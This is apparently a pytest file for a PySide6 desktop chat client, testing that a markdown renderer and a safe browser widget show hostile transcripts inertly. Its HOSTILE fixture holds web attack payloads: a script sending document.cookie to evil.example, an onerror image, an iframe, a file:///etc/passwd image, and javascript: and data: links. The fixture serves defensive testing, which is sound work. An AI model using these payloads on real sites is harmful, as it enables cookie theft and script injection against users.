"""A hostile transcript renders inert: no scripts, no remote loads, links only on an explicit click."""

from __future__ import annotations

import base64

from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from rho_desk.core.wire import Message
from rho_desk.qt.conversation.message_detail import MessageDetailView
from rho_desk.qt.conversation.model import ConversationModel, build_rows
from rho_desk.qt.ui.markdown import SafeTextBrowser, render_markdown
from rho_desk.qt.ui.theme import LIGHT

from .test_demo import DEMO_SOURCE  # noqa: F401

HOSTILE = """Here is the output:

<script>document.location = "https://evil.example/steal?c=" + document.cookie</script>
<img src="http://evil.example/pixel.png" onerror="alert(1)">
<iframe src="https://evil.example/frame"></iframe>

![tracking pixel](https://evil.example/t.gif)
![local file](file:///etc/passwd)
[click me](javascript:alert(document.domain))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[docs](https://docs.example.com/page)
<a href="https://evil.example">raw anchor</a>
"""


def test_raw_html_is_escaped_and_remote_images_are_not_loaded() -> None:
    html = render_markdown(HOSTILE)
    assert "<script" not in html and "&lt;script&gt;" in html
    assert '<img src="http' not in html and "<iframe" not in html and "&lt;iframe" in html
    assert "[image not loaded: tracking pixel — https://evil.example/t.gif]" in html
    assert "file:///etc/passwd" in html and 'src="file:' not in html
    assert 'href="javascript:' not in html and 'href="data:' not in html
    assert '<a href="https://docs.example.com/page"' in html
    assert '<a href="https://evil.example">' not in html  # a raw anchor stays text


def _png() -> bytes:
    from PySide6.QtCore import QBuffer, QByteArray, QIODevice
    from PySide6.QtGui import QColor, QImage

    image = QImage(4, 4, QImage.Format.Format_RGB32)
    image.fill(QColor("red"))
    data = QByteArray()
    buffer = QBuffer(data)
    buffer.open(QIODevice.OpenModeFlag.WriteOnly)
    image.save(buffer, "PNG")
    return bytes(data.data())


def test_embedded_data_images_are_allowed_and_served_locally(qtbot: QtBot) -> None:
    png = base64.b64encode(_png()).decode()
    env: dict = {}
    html = render_markdown(f"![dot](data:image/png;base64,{png})", env)
    assert 'src="rho-image:md/0"' in html and len(env["images"]) == 1
    browser = SafeTextBrowser()
    qtbot.addWidget(browser)
    assert (
        browser.loadResource(
            QTextDocument.ResourceType.ImageResource, QUrl(f"data:image/png;base64,{png}")
        )
        is not None
    )


def test_the_browser_loads_nothing_from_the_network_or_disk(qtbot: QtBot, tmp_path) -> None:
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n")
    browser = SafeTextBrowser()
    qtbot.addWidget(browser)
    for url in (
        "http://evil.example/a.png",
        "https://evil.example/a.png",
        QUrl.fromLocalFile(str(secret)).toString(),
        "secret.png",
        "data:text/html;base64,PGI+",
    ):
        assert browser.loadResource(QTextDocument.ResourceType.ImageResource, QUrl(url)) is None, (
            url
        )
    assert (
        browser.loadResource(
            QTextDocument.ResourceType.StyleSheetResource, QUrl("https://evil.example/x.css")
        )
        is None
    )
    assert not browser.openLinks() and not browser.openExternalLinks()


def test_links_open_only_on_click_and_only_for_web_and_mail(qtbot: QtBot) -> None:
    opened: list[str] = []
    browser = SafeTextBrowser(open_url=lambda url: opened.append(url.toString()))
    qtbot.addWidget(browser)
    browser.setHtml(render_markdown(HOSTILE))
    assert opened == []  # rendering opened nothing
    refused: list[str] = []
    browser.sig_link_refused.connect(refused.append)
    for url in (
        "https://docs.example.com/page",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "mailto:a@example.com",
    ):
        browser.anchorClicked.emit(QUrl(url))
    assert opened == ["https://docs.example.com/page", "mailto:a@example.com"]
    assert refused == ["javascript:alert(1)", "file:///etc/passwd"]


def test_the_detail_pane_renders_a_hostile_message_inertly(qtbot: QtBot) -> None:
    model = ConversationModel()
    model.set_rows(build_rows((Message.user_text(HOSTILE),)))
    opened: list[str] = []
    detail = MessageDetailView(LIGHT, open_url=lambda url: opened.append(url.toString()))
    qtbot.addWidget(detail)
    detail.set_model(model)
    detail.show_row(0)
    text = detail.browser.toPlainText()
    assert "<script>" in text  # shown as text, not run
    html = detail.html()
    assert (
        "evil.example/pixel.png" not in html.split("<body")[1].split("&lt;img")[0]
    )  # no <img> to it
    assert opened == []


def test_a_fragment_that_starts_inside_a_code_span_keeps_its_emphasis_plain() -> None:
    from rho_desk.qt.ui.markdown import plain_text

    # a snippet cut after the opening backtick of `handle_refund`
    text = "handle_refund` rejects events older than **one second** (`TOLERANCE_SECONDS = 1`)"
    start = text.index("TOLERANCE")
    flat, spans = plain_text(text, ((start, start + 9),))
    assert flat == "handle_refund rejects events older than one second (TOLERANCE_SECONDS = 1)"
    assert [flat[a:b] for a, b in spans] == ["TOLERANCE"]
    assert (
        plain_text("see `foo` and `bar")[0] == "see foo and `bar"
    )  # a span cut at the end stays literal


def test_team_snippets_read_as_plain_text_with_their_marks() -> None:
    from rho_desk.qt.browser.team import plain_snippet

    snippet = "handle_refund` rejects events older than **one second** (`«TOLERANCE»_SECONDS = 1`), the «tolerance»"
    assert plain_snippet(snippet) == (
        "handle_refund rejects events older than one second («TOLERANCE»_SECONDS = 1), the «tolerance»"
    )
